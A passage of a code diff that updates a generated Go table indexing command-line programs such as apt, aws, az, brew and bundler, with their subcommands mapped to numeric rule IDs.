{"purge", []uint32{0x1f0002}}, {"rdepends", []uint32{0x1f0001}}, {"reinstall", []uint32{0x1f0002}}, {"remove", []uint32{0x1f0002}}, {"safe-upgrade", []uint32{0x1f0002}}, {"satisfy", []uint32{0x1f0002}}, {"search", []uint32{0x1f0001}}, {"show", []uint32{0x1f0001}}, {"showpkg", []uint32{0x1f0001}}, {"showsrc", []uint32{0x1f0001}}, {"source", []uint32{0x1f0002}}, {"stats", []uint32{0x1f0001}}, {"unhold", []uint32{0x1f0002}}, {"unmarkauto", []uint32{0x1f0002}}, {"update", []uint32{0x1f0002}}, {"upgrade", []uint32{0x1f0002}}, {"versions", []uint32{0x1f0001}}, {"why", []uint32{0x1f0001}}, {"why-not", []uint32{0x1f0001}}, {"xvcg", []uint32{0x1f0001}}}, ruleKnown: false},
+	{name: "apt", grammar: []uint32{0x1f0000}, generic: []uint32{0xa000d, 0xa000e, 0xa001c, 0x1f0000}, subs: []genSub{{"autoclean", []uint32{0x1f0002}}, {"autopurge", []uint32{0x1f0003}}, {"autoremove", []uint32{0x1f0003}}, {"build-dep", []uint32{0x1f0003}}, {"build-depends", []uint32{0x1f0002}}, {"changelog", []uint32{0x1f0002}}, {"check", []uint32{0x1f0002}}, {"clean", []uint32{0x1f0002}}, {"depends", []uint32{0x1f0001}}, {"dist-upgrade", []uint32{0x1f0003}}, {"dotty", []uint32{0x1f0001}}, {"download", []uint32{0x1f0002}}, {"dselect-upgrade", []uint32{0x1f0002}}, {"edit-sources", []uint32{0x1f0002}}, {"forget-new", []uint32{0x1f0002}}, {"full-upgrade", []uint32{0x1f0003}}, {"hold", []uint32{0x1f0002}}, {"indep-dep", []uint32{0x1f0002}}, {"install", []uint32{0x1f0003}}, {"keep", []uint32{0x1f0002}}, {"keep-all", []uint32{0x1f0002}}, {"list", []uint32{0x1f0001}}, {"madison", []uint32{0x1f0001}}, {"markauto", []uint32{0x1f0002}}, {"moo", []uint32{0x1f0002}}, {"pkgnames", []uint32{0x1f0001}}, {"policy", []uint32{0x1f0001}}, {"purge", []uint32{0x1f0003}}, {"rdepends", []uint32{0x1f0001}}, {"reinstall", []uint32{0x1f0003}}, {"remove", []uint32{0x1f0003}}, {"safe-upgrade", []uint32{0x1f0002}}, {"satisfy", []uint32{0x1f0003}}, {"search", []uint32{0x1f0001}}, {"show", []uint32{0x1f0001}}, {"showpkg", []uint32{0x1f0001}}, {"showsrc", []uint32{0x1f0001}}, {"source", []uint32{0x1f0002}}, {"stats", []uint32{0x1f0001}}, {"unhold", []uint32{0x1f0002}}, {"unmarkauto", []uint32{0x1f0002}}, {"update", []uint32{0x1f0002}}, {"upgrade", []uint32{0x1f0003}}, {"versions", []uint32{0x1f0001}}, {"why", []uint32{0x1f0001}}, {"why-not", []uint32{0x1f0001}}, {"xvcg", []uint32{0x1f0001}}}, ruleKnown: true},
+	{name: "apt-get", grammar: []uint32{0x1f0000}, generic: []uint32{0xa000d, 0xa000e, 0xa001c, 0x1f0000}, subs: []genSub{{"autoclean", []uint32{0x1f0002}}, {"autopurge", []uint32{0x1f0003}}, {"autoremove", []uint32{0x1f0003}}, {"build-dep", []uint32{0x1f0003}}, {"build-depends", []uint32{0x1f0002}}, {"changelog", []uint32{0x1f0002}}, {"check", []uint32{0x1f0002}}, {"clean", []uint32{0x1f0002}}, {"dist-upgrade", []uint32{0x1f0003}}, {"download", []uint32{0x1f0002}}, {"dselect-upgrade", []uint32{0x1f0002}}, {"edit-sources", []uint32{0x1f0002}}, {"forget-new", []uint32{0x1f0002}}, {"full-upgrade", []uint32{0x1f0003}}, {"hold", []uint32{0x1f0002}}, {"indep-dep", []uint32{0x1f0002}}, {"install", []uint32{0x1f0003}}, {"keep", []uint32{0x1f0002}}, {"keep-all", []uint32{0x1f0002}}, {"markauto", []uint32{0x1f0002}}, {"moo", []uint32{0x1f0002}}, {"purge", []uint32{0x1f0003}}, {"reinstall", []uint32{0x1f0003}}, {"remove", []uint32{0x1f0003}}, {"safe-upgrade", []uint32{0x1f0002}}, {"satisfy", []uint32{0x1f0003}}, {"source", []uint32{0x1f0002}}, {"unhold", []uint32{0x1f0002}}, {"unmarkauto", []uint32{0x1f0002}}, {"update", []uint32{0x1f0002}}, {"upgrade", []uint32{0x1f0003}}}, ruleKnown: true},
+	{name: "aptitude", grammar: []uint32{0x1f0000}, generic: []uint32{0x1f0000}, subs: []genSub{{"autoclean", []uint32{0x1f0002}}, {"autopurge", []uint32{0x1f0003}}, {"autoremove", []uint32{0x1f0003}}, {"build-dep", []uint32{0x1f0003}}, {"build-depends", []uint32{0x1f0002}}, {"changelog", []uint32{0x1f0002}}, {"check", []uint32{0x1f0002}}, {"clean", []uint32{0x1f0002}}, {"depends", []uint32{0x1f0001}}, {"dist-upgrade", []uint32{0x1f0003}}, {"dotty", []uint32{0x1f0001}}, {"download", []uint32{0x1f0002}}, {"dselect-upgrade", []uint32{0x1f0002}}, {"edit-sources", []uint32{0x1f0002}}, {"forget-new", []uint32{0x1f0002}}, {"full-upgrade", []uint32{0x1f0003}}, {"hold", []uint32{0x1f0002}}, {"indep-dep", []uint32{0x1f0002}}, {"install", []uint32{0x1f0003}}, {"keep", []uint32{0x1f0002}}, {"keep-all", []uint32{0x1f0002}}, {"list", []uint32{0x1f0001}}, {"madison", []uint32{0x1f0001}}, {"markauto", []uint32{0x1f0002}}, {"moo", []uint32{0x1f0002}}, {"pkgnames", []uint32{0x1f0001}}, {"policy", []uint32{0x1f0001}}, {"purge", []uint32{0x1f0003}}, {"rdepends", []uint32{0x1f0001}}, {"reinstall", []uint32{0x1f0003}}, {"remove", []uint32{0x1f0003}}, {"safe-upgrade", []uint32{0x1f0002}}, {"satisfy", []uint32{0x1f0003}}, {"search", []uint32{0x1f0001}}, {"show", []uint32{0x1f0001}}, {"showpkg", []uint32{0x1f0001}}, {"showsrc", []uint32{0x1f0001}}, {"source", []uint32{0x1f0002}}, {"stats", []uint32{0x1f0001}}, {"unhold", []uint32{0x1f0002}}, {"unmarkauto", []uint32{0x1f0002}}, {"update", []uint32{0x1f0002}}, {"upgrade", []uint32{0x1f0003}}, {"versions", []uint32{0x1f0001}}, {"why", []uint32{0x1f0001}}, {"why-not", []uint32{0x1f0001}}, {"xvcg", []uint32{0x1f0001}}}, ruleKnown: false},
 	{name: "ar", grammar: []uint32{0x110008}, generic: []uint32{0xd0023, 0x110008}, subs: []genSub{{"p", []uint32{0x110009}}, {"pv", []uint32{0x110009}}, {"t", []uint32{0x110009}}, {"to", []uint32{0x110009}}, {"tv", []uint32{0x110009}}, {"tvo", []uint32{0x110009}}, {"vp", []uint32{0x110009}}, {"vt", []uint32{0x110009}}, {"vto", []uint32{0x110009}}}, ruleKnown: true},
 	{name: "arch", grammar: []uint32{0x15002d}, generic: []uint32{0xd0016, 0x15002d}, subs: nil, ruleKnown: true},
 	{name: "arch-nspawn", grammar: []uint32{0x1c001d}, generic: []uint32{0x1c001d}, subs: nil, ruleKnown: false},
@@ -2004,10 +2015,10 @@ var generatedExeIndex = []genExe{
 	{name: "autoreconf", grammar: []uint32{0x1c002d}, generic: []uint32{0x1c002d}, subs: nil, ruleKnown: false},
 	{name: "ava", grammar: []uint32{0x240034}, generic: []uint32{0xd0025, 0x240034}, subs: nil, ruleKnown: true},
 	{name: "awk", grammar: []uint32{0xd0006, 0x230005}, generic: []uint32{0xb001b, 0xd001a, 0xe0004, 0xe000f, 0xe0018, 0x230005}, subs: nil, ruleKnown: true},
-	{name: "aws", grammar: []uint32{0x10000, 0x130000, 0x130001}, generic: []uint32{0x10009, 0x10015, 0x1001b, 0xe0008, 0x130000, 0x130001}, subs: []genSub{{"codeartifact", []uint32{0x130005}}, {"cognito-identity", []uint32{0x130008}}, {"configure", []uint32{0x13000c, 0x13000d, 0x13000e, 0x13000f, 0x130010}}, {"ec2", []uint32{0x130008}}, {"ecr", []uint32{0x130004}}, {"ecr-public", []uint32{0x130004}}, {"eks", []uint32{0x130008, 0x13000b}}, {"iam", []uint32{0x1000b, 0x130009}}, {"kms", []uint32{0x1000b}}, {"lightsail", []uint32{0x130008}}, {"organizations", []uint32{0x1000b}}, {"rds", []uint32{0x13000a}}, {"redshift", []uint32{0x130008}}, {"redshift-serverless", []uint32{0x130008}}, {"route53", []uint32{0x1000a}}, {"s3", []uint32{0x10005, 0x10006, 0x10007, 0x10008, 0x13000a, 0x130011, 0x130012, 0x130013, 0x130014}}, {"secretsmanager", []uint32{0xf0005, 0x130006}}, {"ssm", []uint32{0xf0006, 0x130007}}, {"sso", []uint32{0x130008}}, {"sts", []uint32{0x1000b, 0x130002, 0x130003}}}, ruleKnown: true},
+	{name: "aws", grammar: []uint32{0x10000, 0x130000, 0x130001}, generic: []uint32{0x10009, 0x10015, 0x1001b, 0xe0008, 0x130000, 0x130001}, subs: []genSub{{"acm", []uint32{0x130003}}, {"amplify", []uint32{0x130004}}, {"apigateway", []uint32{0x130003}}, {"appsync", []uint32{0x130004}}, {"autoscaling", []uint32{0x130003}}, {"batch", []uint32{0x130004}}, {"cloudformation", []uint32{0x130003}}, {"cloudtrail", []uint32{0x130003}}, {"cloudwatch", []uint32{0x130003}}, {"codeartifact", []uint32{0x130008}}, {"cognito-identity", []uint32{0x13000b}}, {"cognito-idp", []uint32{0x130004}}, {"configure", []uint32{0x13000f, 0x130010, 0x130011, 0x130012, 0x130013}}, {"ec2", []uint32{0x130005, 0x13000b}}, {"ecr", []uint32{0x130003, 0x130007}}, {"ecr-public", []uint32{0x130007}}, {"ecs", []uint32{0x130004}}, {"eks", []uint32{0x130003, 0x13000b, 0x13000e}}, {"elasticbeanstalk", []uint32{0x130004}}, {"elbv2", []uint32{0x130003}}, {"glue", []uint32{0x130004}}, {"iam", []uint32{0x1000b, 0x130003, 0x13000c}}, {"kms", []uint32{0x1000b, 0x130003}}, {"lambda", []uint32{0x130004}}, {"lightsail", []uint32{0x13000b}}, {"logs", []uint32{0x130003}}, {"organizations", []uint32{0x1000b, 0x130003}}, {"rds", []uint32{0x13000d}}, {"redshift", []uint32{0x13000b}}, {"redshift-serverless", []uint32{0x13000b}}, {"route53", []uint32{0x1000a, 0x130003}}, {"s3", []uint32{0x10005, 0x10006, 0x10007, 0x10008, 0x13000d, 0x130014, 0x130015, 0x130016, 0x130017}}, {"s3api", []uint32{0x130003}}, {"secretsmanager", []uint32{0xf0005, 0x130009}}, {"sns", []uint32{0x130003}}, {"sqs", []uint32{0x130003}}, {"ssm", []uint32{0xf0006, 0x13000a}}, {"sso", []uint32{0x13000b}}, {"sts", []uint32{0x1000b, 0x130002, 0x130006}}}, ruleKnown: true},
 	{name: "aws-vault", grammar: []uint32{0x210025}, generic: []uint32{0x210025}, subs: []genSub{{"add", []uint32{0x21002a}}, {"clear", []uint32{0x21002a}}, {"exec", []uint32{0x210026}}, {"export", []uint32{0x210027}}, {"list", []uint32{0x210029}}, {"login", []uint32{0x210028}}, {"ls", []uint32{0x210029}}, {"proxy", []uint32{0x21002a}}, {"remove", []uint32{0x21002a}}, {"rm", []uint32{0x21002a}}, {"rotate", []uint32{0x21002a}}}, ruleKnown: false},
-	{name: "az", grammar: []uint32{0x10004, 0x130015, 0x130016, 0x130017, 0x130018, 0x130019, 0x13001a, 0x13001b, 0x13001d, 0x13001e, 0x13001f, 0x130020}, generic: []uint32{0x1000e, 0x10018, 0x1001b, 0x130015, 0x130016, 0x130017, 0x130018, 0x130019, 0x13001a, 0x13001b, 0x13001d, 0x13001e, 0x13001f, 0x130020}, subs: []genSub{{"account", []uint32{0x13001c, 0x130021}}, {"acr", []uint32{0x130024}}, {"aks", []uint32{0x130025}}, {"config", []uint32{0x130027}}, {"cosmosdb", []uint32{0x130022}}, {"functionapp", []uint32{0x130022, 0x130023}}, {"keyvault", []uint32{0xf0008}}, {"login", []uint32{0x130026}}, {"logout", []uint32{0x130026}}, {"redis", []uint32{0x130022}}, {"storage", []uint32{0x130022, 0x130023, 0x130028}}, {"upgrade", []uint32{0x130026}}, {"version", []uint32{0x130026}}, {"webapp", []uint32{0x130022, 0x130023}}}, ruleKnown: true},
-	{name: "azcopy", grammar: []uint32{0x10003, 0x13003f}, generic: []uint32{0x1000f, 0x10019, 0x13003f}, subs: []genSub{{"bench", []uint32{0x130041}}, {"benchmark", []uint32{0x130041}}, {"copy", []uint32{0x130040}}, {"cp", []uint32{0x130040}}, {"env", []uint32{0x130043}}, {"jobs", []uint32{0x130042}}, {"list", []uint32{0x130041}}, {"login", []uint32{0x130041}}, {"logout", []uint32{0x130041}}, {"make", []uint32{0x130041}}, {"remove", []uint32{0x130041}}, {"rm", []uint32{0x130041}}, {"sync", []uint32{0x10010, 0x130040}}}, ruleKnown: true},
+	{name: "az", grammar: []uint32{0x10004, 0x130018, 0x130019, 0x13001a, 0x13001b, 0x13001c, 0x13001d, 0x13001e, 0x130020, 0x130021, 0x130022, 0x130023}, generic: []uint32{0x1000e, 0x10018, 0x1001b, 0x130018, 0x130019, 0x13001a, 0x13001b, 0x13001c, 0x13001d, 0x13001e, 0x130020, 0x130021, 0x130022, 0x130023}, subs: []genSub{{"account", []uint32{0x13001f, 0x130024}}, {"acr", []uint32{0x130027}}, {"aks", []uint32{0x130028}}, {"config", []uint32{0x13002a}}, {"cosmosdb", []uint32{0x130025}}, {"functionapp", []uint32{0x130025, 0x130026}}, {"keyvault", []uint32{0xf0008}}, {"login", []uint32{0x130029}}, {"logout", []uint32{0x130029}}, {"redis", []uint32{0x130025}}, {"storage", []uint32{0x130025, 0x130026, 0x13002b}}, {"upgrade", []uint32{0x130029}}, {"version", []uint32{0x130029}}, {"webapp", []uint32{0x130025, 0x130026}}}, ruleKnown: true},
+	{name: "azcopy", grammar: []uint32{0x10003, 0x130044}, generic: []uint32{0x1000f, 0x10019, 0x130044}, subs: []genSub{{"bench", []uint32{0x130046}}, {"benchmark", []uint32{0x130046}}, {"copy", []uint32{0x130045}}, {"cp", []uint32{0x130045}}, {"env", []uint32{0x130048}}, {"jobs", []uint32{0x130047}}, {"list", []uint32{0x130046}}, {"login", []uint32{0x130046}}, {"logout", []uint32{0x130046}}, {"make", []uint32{0x130046}}, {"remove", []uint32{0x130046}}, {"rm", []uint32{0x130046}}, {"sync", []uint32{0x10010, 0x130045}}}, ruleKnown: true},
 	{name: "b2sum", grammar: []uint32{0x150022}, generic: []uint32{0xd0016, 0x150022}, subs: nil, ruleKnown: true},
 	{name: "bandit", grammar: []uint32{0x240040}, generic: []uint32{0xd0025, 0x240040}, subs: nil, ruleKnown: true},
 	{name: "base32", grammar: []uint32{0x150025}, generic: []uint32{0xe0004, 0xe0011, 0xe0016, 0x150025}, subs: nil, ruleKnown: true},
@@ -2033,14 +2044,14 @@ var generatedExeIndex = []genExe{
 	{name: "blkid", grammar: []uint32{0x22001d}, generic: []uint32{0xd0016, 0x22001d}, subs: nil, ruleKnown: true},
 	{name: "bore", grammar: nil, generic: []uint32{0xb001f}, subs: nil, ruleKnown: true},
 	{name: "bpftrace", grammar: []uint32{0x1c0035}, generic: []uint32{0x1c0035}, subs: nil, ruleKnown: false},
-	{name: "brew", grammar: []uint32{0x1f0013}, generic: []uint32{0xa000d, 0xa000e, 0xa001c, 0x1f0013}, subs: []genSub{{"abv", []uint32{0x1f0015}}, {"alias", []uint32{0x1f0015}}, {"analytics", []uint32{0x1f0015}}, {"audit", []uint32{0x1f0015}}, {"autoremove", []uint32{0x1f0015}}, {"bump", []uint32{0x1f0015}}, {"bundle", []uint32{0x1f0015}}, {"casks", []uint32{0x1f0014}}, {"cat", []uint32{0x1f0014}}, {"cleanup", []uint32{0x1f0015}}, {"command-not-found-init", []uint32{0x1f0015}}, {"commands", []uint32{0x1f0014}}, {"completions", []uint32{0x1f0015}}, {"config", []uint32{0x1f0014}}, {"create", []uint32{0x1f0015}}, {"deps", []uint32{0x1f0014}}, {"desc", []uint32{0x1f0014}}, {"developer", []uint32{0x1f0015}}, {"docs", []uint32{0x1f0015}}, {"doctor", []uint32{0x1f0014}}, {"dr", []uint32{0x1f0014}}, {"edit", []uint32{0x1f0015}}, {"extract", []uint32{0x1f0015}}, {"fetch", []uint32{0x1f0015}}, {"formulae", []uint32{0x1f0014}}, {"gist-logs", []uint32{0x1f0015}}, {"home", []uint32{0x1f0015}}, {"homepage", []uint32{0x1f0015}}, {"info", []uint32{0x1f0015}}, {"install", []uint32{0x1f0015}}, {"irb", []uint32{0x1f0015}}, {"leaves", []uint32{0x1f0014}}, {"link", []uint32{0x1f0015}}, {"list", []uint32{0x1f0014}}, {"livecheck", []uint32{0x1f0015}}, {"ln", []uint32{0x1f0015}}, {"log", []uint32{0x1f0014}}, {"ls", []uint32{0x1f0014}}, {"migrate", []uint32{0x1f0015}}, {"missing", []uint32{0x1f0014}}, {"options", []uint32{0x1f0014}}, {"outdated", []uint32{0x1f0015}}, {"pin", []uint32{0x1f0015}}, {"postinstall", []uint32{0x1f0015}}, {"readall", []uint32{0x1f0014}}, {"reinstall", []uint32{0x1f0015}}, {"remove", []uint32{0x1f0015}}, {"rm", []uint32{0x1f0015}}, {"ruby", []uint32{0x1f0015}}, {"search", []uint32{0x1f0015}}, {"services", []uint32{0x1f0015}}, {"sh", []uint32{0x1f0015}}, {"shellenv", []uint32{0x1f0014}}, {"style", []uint32{0x1f0015}}, {"tap", []uint32{0x1f0015}}, {"tap-info", []uint32{0x1f0014}}, {"tap-new", []uint32{0x1f0015}}, {"test", []uint32{0x1f0015}}, {"trust", []uint32{0x1f0015}}, {"unalias", []uint32{0x1f0015}}, {"uninstall", []uint32{0x1f0015}}, {"unlink", []uint32{0x1f0015}}, {"unpin", []uint32{0x1f0015}}, {"untap", []uint32{0x1f0015}}, {"update", []uint32{0x1f0015}}, {"update-reset", []uint32{0x1f0015}}, {"upgrade", []uint32{0x1f0015}}, {"uses", []uint32{0x1f0014}}, {"which-formula", []uint32{0x1f0015}}}, ruleKnown: true},
+	{name: "brew", grammar: []uint32{0x1f0014}, generic: []uint32{0xa000d, 0xa000e, 0xa001c, 0x1f0014}, subs: []genSub{{"abv", []uint32{0x1f0016}}, {"alias", []uint32{0x1f0016}}, {"analytics", []uint32{0x1f0016}}, {"audit", []uint32{0x1f0016}}, {"autoremove", []uint32{0x1f0016}}, {"bump", []uint32{0x1f0016}}, {"bundle", []uint32{0x1f0016}}, {"casks", []uint32{0x1f0015}}, {"cat", []uint32{0x1f0015}}, {"cleanup", []uint32{0x1f0016}}, {"command-not-found-init", []uint32{0x1f0016}}, {"commands", []uint32{0x1f0015}}, {"completions", []uint32{0x1f0016}}, {"config", []uint32{0x1f0015}}, {"create", []uint32{0x1f0016}}, {"deps", []uint32{0x1f0015}}, {"desc", []uint32{0x1f0015}}, {"developer", []uint32{0x1f0016}}, {"docs", []uint32{0x1f0016}}, {"doctor", []uint32{0x1f0015}}, {"dr", []uint32{0x1f0015}}, {"edit", []uint32{0x1f0016}}, {"extract", []uint32{0x1f0016}}, {"fetch", []uint32{0x1f0016}}, {"formulae", []uint32{0x1f0015}}, {"gist-logs", []uint32{0x1f0016}}, {"home", []uint32{0x1f0016}}, {"homepage", []uint32{0x1f0016}}, {"info", []uint32{0x1f0016}}, {"install", []uint32{0x1f0016}}, {"irb", []uint32{0x1f0016}}, {"leaves", []uint32{0x1f0015}}, {"link", []uint32{0x1f0016}}, {"list", []uint32{0x1f0015}}, {"livecheck", []uint32{0x1f0016}}, {"ln", []uint32{0x1f0016}}, {"log", []uint32{0x1f0015}}, {"ls", []uint32{0x1f0015}}, {"migrate", []uint32{0x1f0016}}, {"missing", []uint32{0x1f0015}}, {"options", []uint32{0x1f0015}}, {"outdated", []uint32{0x1f0016}}, {"pin", []uint32{0x1f0016}}, {"postinstall", []uint32{0x1f0016}}, {"readall", []uint32{0x1f0015}}, {"reinstall", []uint32{0x1f0016}}, {"remove", []uint32{0x1f0016}}, {"rm", []uint32{0x1f0016}}, {"ruby", []uint32{0x1f0016}}, {"search", []uint32{0x1f0016}}, {"services", []uint32{0x1f0016}}, {"sh", []uint32{0x1f0016}}, {"shellenv", []uint32{0x1f0015}}, {"style", []uint32{0x1f0016}}, {"tap", []uint32{0x1f0016}}, {"tap-info", []uint32{0x1f0015}}, {"tap-new", []uint32{0x1f0016}}, {"test", []uint32{0x1f0016}}, {"trust", []uint32{0x1f0016}}, {"unalias", []uint32{0x1f0016}}, {"uninstall", []uint32{0x1f0016}}, {"unlink", []uint32{0x1f0016}}, {"unpin", []uint32{0x1f0016}}, {"untap", []uint32{0x1f0016}}, {"update", []uint32{0x1f0016}}, {"update-reset", []uint32{0x1f0016}}, {"upgrade", []uint32{0x1f0016}}, {"uses", []uint32{0x1f0015}}, {"which-formula", []uint32{0x1f0016}}}, ruleKnown: true},
 	{name: "bridge", grammar: []uint32{0x1c0001, 0x1c0036}, generic: []uint32{0x1c0036}, subs: []genSub{{"fdb", []uint32{0x1c0037, 0x1c0038}}, {"link", []uint32{0x1c0037, 0x1c0038}}, {"mdb", []uint32{0x1c0037, 0x1c0038}}, {"monitor", []uint32{0x1c0039}}, {"vlan", []uint32{0x1c0037, 0x1c0038}}, {"vni", []uint32{0x1c0037, 0x1c0038}}}, ruleKnown: false},
 	{name: "btop", grammar: []uint32{0x220012}, generic: []uint32{0xd0016, 0x220012}, subs: nil, ruleKnown: true},
 	{name: "buck", grammar: []uint32{0x240042}, generic: []uint32{0xd0024, 0x240042}, subs: nil, ruleKnown: true},
 	{name: "builtin", grammar: []uint32{0x120012}, generic: []uint32{0x120012}, subs: nil, ruleKnown: false},
 	{name: "bun", grammar: []uint32{0x24002d}, generic: []uint32{0xa0005, 0xa0007, 0xa0013, 0xb0009, 0x24002d}, subs: []genSub{{"--version", []uint32{0xa0011}}, {"-v", []uint32{0xa0011}}, {"a", []uint32{0x24002f}}, {"add", []uint32{0xa0008, 0xa0012, 0x24002f}}, {"audit", []uint32{0xa0011, 0x24002f}}, {"bin", []uint32{0xa0011}}, {"build", []uint32{0xa0011, 0x24002f}}, {"c", []uint32{0x24002f}}, {"cache", []uint32{0xa0012}}, {"check", []uint32{0xa0011}}, {"ci", []uint32{0xa0012}}, {"config", []uint32{0xa0012}}, {"create", []uint32{0x24002f}}, {"dedupe", []uint32{0xa0012}}, {"dev", []uint32{0xa0011}}, {"doctor", []uint32{0xa0011}}, {"exec", []uint32{0x24002f}}, {"explain", []uint32{0xa0011}}, {"format", []uint32{0xa0011}}, {"fund", []uint32{0xa0011}}, {"help", []uint32{0xa0011}}, {"i", []uint32{0xa0008, 0xa0012, 0x24002f}}, {"in", []uint32{0xa0008}}, {"info", []uint32{0xa0011, 0x24002f}}, {"init", []uint32{0x24002f}}, {"install", []uint32{0xa0008, 0xa0012, 0x24002f}}, {"licenses", []uint32{0xa0011}}, {"link", []uint32{0xa0012, 0x24002f}}, {"lint", []uint32{0xa0011}}, {"list", []uint32{0xa0011}}, {"ls", []uint32{0xa0011}}, {"outdated", []uint32{0xa0011, 0x24002f}}, {"pack", []uint32{0xa0011}}, {"patch", []uint32{0x24002f}}, {"patch-commit", []uint32{0x24002f}}, {"pm", []uint32{0x24002e, 0x24002f}}, {"prefix", []uint32{0xa0011}}, {"prune", []uint32{0xa0012}}, {"publish", []uint32{0x24002f}}, {"query", []uint32{0xa0011}}, {"rebuild", []uint32{0xa0012}}, {"remove", []uint32{0xa0012, 0x24002f}}, {"repl", []uint32{0x24002f}}, {"rm", []uint32{0xa0012, 0x24002f}}, {"root", []uint32{0xa0011}}, {"run", []uint32{0xa0011, 0x24002f}}, {"run-script", []uint32{0xa0011}}, {"search", []uint32{0xa0011}}, {"set", []uint32{0xa0012}}, {"show", []uint32{0xa0011}}, {"start", []uint32{0xa0011}}, {"t", []uint32{0xa0011}}, {"test", []uint32{0xa0011, 0x24002f}}, {"tst", []uint32{0xa0011}}, {"typecheck", []uint32{0xa0011}}, {"uninstall", []uint32{0xa0012}}, {"unlink", []uint32{0xa0012, 0x24002f}}, {"up", []uint32{0xa0012}}, {"update", []uint32{0xa0012, 0x24002f}}, {"upgrade", []uint32{0xa0012, 0x24002f}}, {"v", []uint32{0xa0011}}, {"version", []uint32{0xa0012}}, {"view", []uint32{0xa0011}}, {"why", []uint32{0xa0011, 0x24002f}}, {"x", []uint32{0x24002f}}}, ruleKnown: true},
-	{name: "bundle", grammar: []uint32{0x1f004d}, generic: []uint32{0x1f004d}, subs: []genSub{{"add", []uint32{0x1f0051}}, {"binstubs", []uint32{0x1f0051}}, {"cache", []uint32{0x1f0051}}, {"check", []uint32{0x1f0051}}, {"clean", []uint32{0x1f0051}}, {"config", []uint32{0x1f004f, 0x1f0050}}, {"console", []uint32{0x1f0051}}, {"doctor", []uint32{0x1f0051}}, {"exec", []uint32{0x1f0051}}, {"fund", []uint32{0x1f0051}}, {"gem", []uint32{0x1f0051}}, {"help", []uint32{0x1f0051}}, {"info", []uint32{0x1f0051}}, {"init", []uint32{0x1f0051}}, {"inject", []uint32{0x1f0051}}, {"install", []uint32{0x1f0051}}, {"issue", []uint32{0x1f0051}}, {"licenses", []uint32{0x1f0051}}, {"list", []uint32{0x1f0051}}, {"lock", []uint32{0x1f0051}}, {"open", []uint32{0x1f0051}}, {"outdated", []uint32{0x1f0051}}, {"pack", []uint32{0x1f0051}}, {"package", []uint32{0x1f0051}}, {"platform", []uint32{0x1f0051}}, {"plugin", []uint32{0x1f0051}}, {"pristine", []uint32{0x1f0051}}, {"remove", []uint32{0x1f0051}}, {"show", []uint32{0x1f0051}}, {"update", []uint32{0x1f0051}}, {"version", []uint32{0x1f004e}}, {"viz", []uint32{0x1f0051}}}, ruleKnown: false},
-	{name: "bundler", grammar: []uint32{0x1f004d}, generic: []uint32{0x1f004d}, subs: []genSub{{"add", []uint32{0x1f0051}}, {"binstubs", []uint32{0x1f0051}}, {"cache", []uint32{0x1f0051}}, {"check", []uint32{0x1f0051}}, {"clean", []uint32{0x1f0051}}, {"config", []uint32{0x1f004f, 0x1f0050}}, {"console", []uint32{0x1f0051}}, {"doctor", []uint32{0x1f0051}}, {"exec", []uint32{0x1f0051}}, {"fund", []uint32{0x1f0051}}, {"gem", []uint32{0x1f0051}}, {"help", []uint32{0x1f0051}}, {"info", []uint32{0x1f0051}}, {"init", []uint32{0x1f0051}}, {"inject", []uint32{0x1f0051}}, {"install", []uint32{0x1f0051}}, {"issue", []uint32{0x1f0051}}, {"licenses", []uint32{0x1f0051}}, {"list", []uint32{0x1f0051}}, {"lock", []uint32{0x1f0051}}, {"open", []uint32{0x1f0051}}, {"outdated", []uint32{0x1f0051}}, {"pack", []uint32{0x1f0051}}, {"package", []uint32{0x1f0051}}, {"platform", []uint32{0x1f0051}}, {"plugin", []uint32{0x1f0051}}, {"pristine", []uint32{0x1f0051}}, {"remove", []uint32{0x1f0051}}, {"show", []uint32{0x1f0051}}, {"update", []uint32{0x1f0051}}, {"version", []uint32{0x1f004e}}, {"viz", []uint32{0x1f0051}}}, ruleKnown: false},
+	{name: "bundle", grammar: []uint32{0x1f004f}, generic: []uint32{0x1f004f}, subs: []genSub{{"add", []uint32{0x1f0053}}, {"binstubs", []uint32{0x1f0053}}, {"cache", []uint32{0x1f0053}}, {"check", []uint32{0x1f0053}}, {"clean", []uint32{0x1f0053}}, {"config", []uint32{0x1f0051, 0x1f0052}}, {"console", []uint32{0x1f0053}}, {"doctor", []uint32{0x1f0053}}, {"exec", []uint32{0x1f0053}}, {"fund", []uint32{0x1f0053}}, {"gem", []uint32{0x1f0053}}, {"help", []uint32{0x1f0053}}, {"info", []uint32{0x1f0053}}, {"init", []uint32{0x1f0053}}, {"inject", []uint32{0x1f0053}}, {"install", []uint32{0x1f0053}}, {"issue", []uint32{0x1f0053}}, {"licenses", []uint32{0x1f0053}}, {"list", []uint32{0x1f0053}}, {"lock", []uint32{0x1f0053}}, {"open", []uint32{0x1f0053}}, {"outdated", []uint32{0x1f0053}}, {"pack", []uint32{0x1f0053}}, {"package", []uint32{0x1f0053}}, {"platform", []uint32{0x1f0053}}, {"plugin", []uint32{0x1f0053}}, {"pristine", []uint32{0x1f0053}}, {"remove", []uint32{0x1f0053}}, {"show", []uint32{0x1f0053}}, {"update", []uint32{0x1f0053}}, {"version", []uint32{0x1f0050}}, {"viz", []uint32{0x1f0053}}}, ruleKnown: false},
+	{name: "bundler", grammar: []uint32{0x1f004f}, generic: []uint32{0x1f004f}, subs: []genSub{{"add", []uint32{0x1f0053}}, {"binstubs", []uint32{0x1f0053}}, {"cache", []uint32{0x1f0053}}, {"check", []uint32{0x1f0053}}, {"clean", []uint32{0x1f0053}}, {"config", []uint32{0x1f0051, 0x1f0052}}, {"console", []uint32{0x1f0053}}, {"doctor", []uint32{0x1f0053}}, {"exec", []uint32{0x1f0053}}, {"fund", []uint32{0x1f0053}}, {"gem", []uint32{0x1f0053}}, {"help", []uint32{0x1f0053}}, {"info", []uint32{0x1f0053}}, {"init", []uint32{0x1f0053}}, {"inject", []uint32{0x1f0053}}, {"install", []uint32{0x1f0053}}, {"issue", []uint32{0x1f0053}}, {"licenses", []uint32{0x1f0053}}, {"list", []uint32{0x1f0053}}, {"lock", []uint32{0x1f0053}}, {"open", []uint32{0x1f0053}}, {"outdated", []uint32{0x1f0053}}, {"pack", []uint32{0x1f0053}}, {"package", []uint32{0x1f0053}}, {"platform", []uint32{0x1f0053}}, {"plugin", []uint32{0x1f0053}}, {"pristine", []uint32{0x1f0053}}, {"remove", []uint32{0x1f0053}}, {"show", []uint32{0x1f0053}}, {"update", []uint32{0x1f0053}}, {"version", []uint32{0x1f0050}}, {"viz", []uint32{0x1f0053}}}, ruleKnown: false},
 	{name: "bunx", grammar: nil, generic: []uint32{0x3001a, 0x3001b}, subs: nil, ruleKnown: true},
